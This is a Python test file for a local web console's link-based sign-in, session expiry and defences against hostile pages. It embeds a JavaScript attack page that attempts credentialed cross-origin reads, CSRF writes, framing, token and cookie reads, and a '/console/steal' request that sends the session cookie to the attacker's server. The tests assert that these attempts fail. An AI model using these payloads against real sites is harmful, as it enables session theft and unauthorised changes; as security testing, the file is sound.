"""Signing in by a link in a real browser, and hostile pages that try to use the session of whoever is signed in."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from tests.support.console import KEYS, STATE, Browser, ConsoleServer
from tests.support.console_browser import Tab, wait
from tests.support.process import eventually

HOSTILE = """<!doctype html><title>shop</title><body><script>
const victim = "http://127.0.0.1:PORT", meshes = victim + "/console/api/v20190125/meshes";
const attempts = {
  read: () => fetch(meshes, {credentials: "include"}).then(r => r.text()),
  blind: () => fetch(meshes, {credentials: "include", mode: "no-cors"}).then(r => r.type),
  write: () => fetch(meshes, {method: "PUT", credentials: "include",
    headers: {"content-type": "application/json", "x-shopmesh-console": "1"}, body: '{"meshName": "evil"}'}),
  simple: () => fetch(meshes, {method: "POST", credentials: "include", mode: "no-cors",
    headers: {"content-type": "text/plain"}, body: '{"meshName": "evil"}'}).then(r => r.type),
  script: () => new Promise((ok, fail) => { const s = document.createElement("script");
    s.src = victim + "/console/static/main.js"; s.onload = () => ok("loaded"); s.onerror = () => fail("refused");
    document.body.append(s); }),
  frame: () => new Promise(ok => { const f = document.createElement("iframe"); f.name = "framed";
    f.src = victim + "/console/"; f.onload = () => ok("loaded"); document.body.append(f); }),
  own: () => fetch("/console/steal", {credentials: "include"}).then(r => r.text()),
  storage: async () => localStorage.getItem("shopmesh-console-page-token"),
  cookie: async () => document.cookie,
};
globalThis.attempt = name => attempts[name]().then(value => String(value), error => "failed: " + error);
</script>"""


class Shop:
    """A service of the mesh that somebody has taken over: its page, and the cookies that a browser sends it."""

    def __init__(self, victim: int) -> None:
        self.cookies: list[str] = []
        shop = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                shop.cookies.append(self.headers.get("cookie", ""))
                body = HOSTILE.replace("PORT", str(victim)).encode()
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                """Its requests are no one's business."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture
def shop(server: ConsoleServer) -> Iterator[Shop]:
    found = Shop(server.port)
    yield found
    found.close()


def console_of(server: ConsoleServer) -> str:
    return f"http://127.0.0.1:{server.port}/console/"


def is_signed_in(tab: Any) -> bool:
    tab.wait_for_selector("header, h1")
    return bool(tab.locator("h1", has_text="Sign in").count() == 0)


def mesh_names(server: ConsoleServer) -> list[str]:
    with server.client() as client:
        return [one["meshName"] for one in client.appmesh.list_meshes()["meshes"]]


def test_a_link_signs_a_browser_in_until_it_signs_out(server: ConsoleServer, tab: Any) -> None:
    """The code is gone from the address; a new tab and a reload are signed in as well; no script sees the cookie."""
    tab.goto(server.link())

    assert is_signed_in(tab)
    assert console_of(server) == tab.url.partition("#")[0]
    assert "code" not in tab.url
    assert "" == tab.evaluate("document.cookie")
    second = tab.context.new_page()
    second.goto(console_of(server))
    assert is_signed_in(second)
    tab.reload()
    assert is_signed_in(tab)
    tab.evaluate("import('/console/static/data/session.js').then(session => session.signOut())")
    tab.reload()
    assert not is_signed_in(tab)
    assert [] == tab.context.cookies()


def test_a_link_that_was_used_says_what_to_do(server: ConsoleServer, new_browser: Callable[[], Any]) -> None:
    link = server.link()
    first, second = new_browser().new_page(), new_browser().new_page()
    first.goto(link)
    assert is_signed_in(first)
    second.goto(link)

    assert not is_signed_in(second)
    assert "shopmesh console" in second.inner_text("body")


def test_a_page_of_another_port_gets_nothing_of_the_session(
    server: ConsoleServer, shop: Shop, tab: Any, complaints: list[str]
) -> None:
    """It is the same site, so the browser adds the cookie, also to requests to the shop itself."""
    tab.goto(server.link())
    assert is_signed_in(tab)
    hostile = tab.context.new_page()
    hostile.goto(shop.url)

    def attempt(name: str) -> str:
        return str(hostile.evaluate("name => attempt(name)", name))

    for name in ("read", "write", "blind", "simple", "script"):
        assert attempt(name).startswith("failed: "), name
    assert "loaded" == attempt("frame")
    framed = [frame for frame in hostile.frames if frame.name == "framed"]
    wait(Tab(hostile), lambda: [True] == [frame.url.startswith("chrome-error:") for frame in framed], "it is refused")
    assert ["", "null"] == [attempt("cookie"), attempt("storage")]
    assert [] == mesh_names(server)

    # The service behind the page can send whatever it wants, and has the cookie.
    attempt("own")
    stolen = shop.cookies[-1]
    assert stolen.startswith(f"shopmesh-console-{server.port}=")
    name, _, value = stolen.partition("=")
    for token in (None, "1", value, KEYS["AKIAONE"]):
        thief = Browser(server.port, cookies={name: value}, page_token=token)
        assert 401 == thief.get(STATE).status
    # Some of what the pages complained about is only read when they are closed.
    tab.context.close()
    complaints.clear()


def test_a_page_that_has_its_name_lead_here_gets_nothing(
    server: ConsoleServer, tab: Any, complaints: list[str]
) -> None:
    answer = tab.goto(f"http://rebinding.example:{server.port}/console/")

    assert 421 == answer.status
    assert "--console-host" in tab.inner_text("body")
    # Some of what the pages complained about is only read when they are closed.
    tab.context.close()
    complaints.clear()


def test_a_link_on_a_page_of_another_site_opens_the_console(server: ConsoleServer, tab: Any) -> None:
    """As in a terminal that is a web page: it signs in."""
    link = server.link()
    tab.goto("about:blank")
    tab.set_content(f'<a href="{link}" target="_blank" rel="noopener">open</a>')
    with tab.context.expect_page() as opened:
        tab.click("a")

    assert is_signed_in(opened.value)


def test_a_page_that_stays_open_after_twelve_hours_says_so(server: ConsoleServer, tab: Any) -> None:
    tab.goto(server.link())
    assert is_signed_in(tab)
    server.now += 12 * 3600
    tab.reload()

    assert not is_signed_in(tab)
    eventually(lambda: "twelve hours" in tab.inner_text("body"), "it says how long a session lasts")


def test_two_control_planes_of_one_machine_are_open_side_by_side(tab: Any) -> None:
    """Their cookies have the same host."""
    with ConsoleServer() as one, ConsoleServer() as two:
        for server in (one, two):
            tab.goto(server.link())
            assert is_signed_in(tab)
        for server in (one, two):
            tab.goto(console_of(server))
            assert is_signed_in(tab)
